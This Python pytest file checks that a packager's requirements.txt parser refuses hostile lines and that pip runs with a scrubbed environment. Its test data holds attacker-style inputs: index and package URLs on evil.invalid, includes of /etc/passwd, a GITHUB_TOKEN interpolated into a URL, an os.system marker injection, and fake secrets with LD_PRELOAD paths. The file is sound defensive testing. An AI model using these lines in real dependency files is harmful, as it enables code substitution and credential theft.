"""requirements.txt attacks (DESIGN.md §5) and the scrubbed subprocess environment.

Every line that would let an upload choose where code comes from, read the
build host's files or environment, or blow up the parser is refused with
``where == "requirements.txt:LINE"``. A few go through the real CLI to show
the refusal happens before anything runs and leaves nothing behind.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from packager.deps import piprun
from packager.deps.profile import load_profile
from packager.deps.requirements import MAX_LINE, MAX_LOGICAL, parse_requirements
from packager.errors import RequirementsError
from tests.hostile import HANDLER
from tests.test_hostile_sources import assert_no_escape, python_flag, run_build, snapshot

__all__ = ["python_flag"]  # re-exported fixture

PREFIX = b"requests==2.32.3\n# a comment line\n\n"
LINE = 4  # the hostile line's number after PREFIX

HOSTILE: list[tuple[str, bytes, str]] = [
    # id, line, a fragment of the message
    ("index-url", b"--index-url https://evil.invalid/simple", "index options"),
    ("index-url-eq", b"--index-url=https://evil.invalid/simple", "index options"),
    ("index-short", b"-i https://evil.invalid/simple", "index options"),
    ("index-short-glued", b"-ihttps://evil.invalid/simple", "index options"),
    ("extra-index-url", b"--extra-index-url https://evil.invalid/simple", "index options"),
    ("find-links", b"--find-links /tmp/wheels", "index options"),
    ("find-links-short", b"-f https://evil.invalid/wheels/", "index options"),
    ("trusted-host", b"--trusted-host evil.invalid", "index options"),
    ("no-index", b"--no-index", "index options"),
    ("editable", b"-e git+https://evil.invalid/x.git#egg=x", "editable"),
    ("editable-long", b"--editable=.", "editable"),
    ("editable-local", b"-e .", "editable"),
    ("vcs-git", b"git+https://evil.invalid/x.git", "URL"),
    ("vcs-git-ssh", b"git+ssh://git@evil.invalid/x.git", "URL"),
    ("vcs-hg", b"hg+https://evil.invalid/x", "URL"),
    ("file-url", b"file:///etc/passwd", "URL"),
    ("plain-url", b"https://evil.invalid/pkg-1.0.tar.gz", "URL"),
    ("pep508-url", b"pkg @ https://evil.invalid/pkg-1.0-py3-none-any.whl", "URL"),
    ("pep508-file", b"pkg @ file:///tmp/pkg.whl", "URL"),
    ("pep508-vcs", b"pkg[extra] @ git+https://evil.invalid/x", "URL"),
    ("path-relative", b"./pkg", "path"),
    ("path-parent", b"../pkg", "path"),
    ("path-absolute", b"/abs/pkg", "path"),
    ("path-home", b"~/pkg", "path"),
    ("path-windows", b"C:\\pkg", "path"),
    ("requirement-include", b"-r /etc/passwd", "including other requirement files"),
    ("requirement-include-glued", b"-r/etc/passwd", "including other requirement files"),
    ("requirement-include-long", b"--requirement=/etc/passwd", "including other requirement files"),
    ("constraint", b"-c constraints.txt", "constraint"),
    ("constraint-long", b"--constraint /etc/passwd", "constraint"),
    ("env-braces", b"requests==${SECRET}", "environment variable"),
    ("env-bare", b"requests==$SECRET", "environment variable"),
    ("env-in-url", b"pkg @ https://${GITHUB_TOKEN}@evil.invalid/x.whl", "environment variable"),
    ("env-default", b"pkg==${A:-1.0}", "environment variable"),
    ("other-option", b"--pre", "not allowed"),
    ("per-req-option", b"pkg --install-option=--prefix=/tmp", "invalid requirement"),
    ("trailing-index", b"pkg==1.0 --index-url https://evil.invalid", "invalid requirement"),
    ("continued-option", b"pkg==1.0 \\\n--index-url https://evil.invalid", "invalid requirement"),
    ("continued-editable", b"\\\n-e .", "editable"),
    ("absurd-line", b"a" * (MAX_LINE + 1), "too long"),
    ("absurd-continued", b"aaaaaaa \\\n" * (MAX_LOGICAL // 7), "too long"),
    ("nul-byte", b"req\x00uests", "NUL"),
    ("non-utf8", b"caf\xe9==1.0", "UTF-8"),
    ("marker-injection", b"pkg ; os.system('id')", "invalid requirement"),
    ("duplicate", b"Requests>=2", "listed twice"),
]


@pytest.mark.parametrize("line,fragment", [(h[1], h[2]) for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_refused_with_line_number(line: bytes, fragment: str) -> None:
    with pytest.raises(RequirementsError) as exc:
        parse_requirements(PREFIX + line + b"\nnumpy\n", strict=True)
    err = exc.value
    assert err.where == f"requirements.txt:{LINE}", err.where
    assert fragment.lower() in err.message.lower(), err.message
    assert err.hint
    assert err.exit_code == 6
    assert "\n" not in err.message


def test_index_refusal_names_where_the_index_comes_from() -> None:
    with pytest.raises(RequirementsError) as exc:
        parse_requirements(b"--extra-index-url https://evil.invalid/simple\n", strict=True)
    assert "--index-url" in (exc.value.hint or "")


@pytest.mark.parametrize("case_id", [h[0] for h in HOSTILE if h[2] == "index options"])
def test_index_lines_are_skipped_with_a_warning_outside_strict(case_id: str) -> None:
    """pipenv / pip-compile --emit-index-url / poetry export files build; the index stays ours."""
    line = dict((h[0], h[1]) for h in HOSTILE)[case_id]
    reqs = parse_requirements(PREFIX + line + b"\nnumpy\n")
    assert [r.name for r in reqs.lines] == ["requests", "numpy"]
    assert reqs.ignored == ((LINE, line.decode()),)
    (warning,) = reqs.warnings
    assert warning.startswith(f"requirements.txt:{LINE}: ignored `")
    assert "build's own index settings were used" in warning and "--strict-requirements" in warning


def test_a_skipped_index_lines_credentials_are_not_repeated() -> None:
    reqs = parse_requirements(b"-i https://ci:s3cret@mirror.invalid/simple\nrequests\n")
    assert "s3cret" not in reqs.warnings[0] and "****@mirror.invalid" in reqs.warnings[0]


def test_whole_file_cap() -> None:
    with pytest.raises(RequirementsError, match="too large"):
        parse_requirements(b"# x\n" * 300_000)


def test_the_plain_forms_are_accepted() -> None:
    reqs = parse_requirements(
        b"requests==2.32.3 --hash=sha256:" + b"a" * 64 + b"\n"
        b"PyYAML>=6 ; python_version >= '3.9'  # comment\n"
        b"pydantic[email]~=2.7\n"
        b"numpy\\\n  >=1.26\n"
    )
    assert [r.name for r in reqs.lines] == ["requests", "pyyaml", "pydantic", "numpy"]
    assert [r.line for r in reqs.lines] == [1, 2, 3, 4]


CLI_CASES = ["index-url", "editable", "vcs-git", "requirement-include", "env-braces", "nul-byte", "absurd-line"]


@pytest.mark.parametrize("case_id", CLI_CASES)
def test_refused_through_the_cli(case_id: str, tmp_path: Path, python_flag: list[str]) -> None:
    """The refusal comes before any resolver runs: exit 6, the line named, nothing written."""
    line = dict((h[0], h[1]) for h in HOSTILE)[case_id]
    src = tmp_path / "src" / "fn"
    src.mkdir(parents=True)
    (src / "handler.py").write_bytes(HANDLER)
    (src / "requirements.txt").write_bytes(PREFIX + line + b"\n")
    before = snapshot(tmp_path)
    strict = ["--strict-requirements"] if case_id == "index-url" else []
    proc, out = run_build(tmp_path, src, [*python_flag, *strict])
    assert proc.returncode == 6, proc.stdout + proc.stderr
    err = json.loads(proc.stdout)["error"]
    assert err["error"] == "requirements"
    assert err["where"] == f"requirements.txt:{LINE}"
    assert not out.exists()
    after = snapshot(tmp_path)
    assert [k for k, v in after.items() if k not in before and v != "dir"] == []
    assert all(after.get(k) == v for k, v in before.items())
    assert_no_escape(tmp_path)


# ------------------------------------------------------------------ the subprocess environment

SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "aws-secret", "AWS_ACCESS_KEY_ID": "AKIA", "AWS_SESSION_TOKEN": "tok",
    "GITHUB_TOKEN": "ghp_x", "GH_TOKEN": "ghp_y", "CI_JOB_TOKEN": "ci", "NPM_TOKEN": "npm",
    "DOCKER_PASSWORD": "pw", "SSH_AUTH_SOCK": "/tmp/agent.sock", "GOOGLE_APPLICATION_CREDENTIALS": "/k.json",
    "DATABASE_URL": "postgres://u:p@h/db", "SECRET": "s", "LD_PRELOAD": "/tmp/evil.so",
    "PYTHONPATH": "/tmp/evil", "PYTHONSTARTUP": "/tmp/evil.py",
}
KEPT = {"PATH": "/usr/bin:/bin", "HOME": "/home/builder", "LANG": "C.UTF-8",
        "PIP_INDEX_URL": "https://mirror.internal/simple", "PIP_CERT": "/etc/ssl/ca.pem",
        "HTTPS_PROXY": "http://proxy:3128", "SSL_CERT_FILE": "/etc/ssl/ca.pem"}


@pytest.fixture
def hostile_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for k, v in {**SECRETS, **KEPT}.items():
        monkeypatch.setenv(k, v)


def test_clean_env_drops_secrets_keeps_what_pip_needs(hostile_env: None) -> None:
    env = piprun.clean_env()
    for k in SECRETS:
        assert k not in env, k
    for k, v in KEPT.items():
        assert env[k] == v, k
    assert not any(v in ("aws-secret", "ghp_x", "ghp_y") for v in env.values())


def test_clean_env_extra_values_win(hostile_env: None) -> None:
    env = piprun.clean_env({"IGNITE_TARGET_MARKERS": "{}"})
    assert env["IGNITE_TARGET_MARKERS"] == "{}"
    assert "GITHUB_TOKEN" not in env


def test_run_pip_passes_only_the_clean_env(hostile_env: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """The env that reaches pip (which runs sdist build backends from the upload's deps) is scrubbed."""
    seen: dict[str, Any] = {}

    def fake_run(argv: list[str], **kw: Any) -> subprocess.CompletedProcess[str]:
        seen.update(kw)
        return subprocess.CompletedProcess(argv, 0, "", "")

    monkeypatch.setattr(piprun, "run_child", fake_run)  # every pip run goes through runtime.run_child
    piprun.run_pip("pip", ["--version"], load_profile(None))
    env = seen["env"]
    assert not set(SECRETS) - {"PYTHONPATH"} & set(env)
    for k in SECRETS:
        if k != "PYTHONPATH":
            assert k not in env, k
    assert env["PYTHONPATH"] != SECRETS["PYTHONPATH"]  # the packager's own root, not the caller's
    assert env["PIP_INDEX_URL"] == KEPT["PIP_INDEX_URL"]
    import inspect

    from packager import runtime
    assert "stdin=subprocess.DEVNULL" in inspect.getsource(runtime.run_child)  # no inherited stdin for prompts
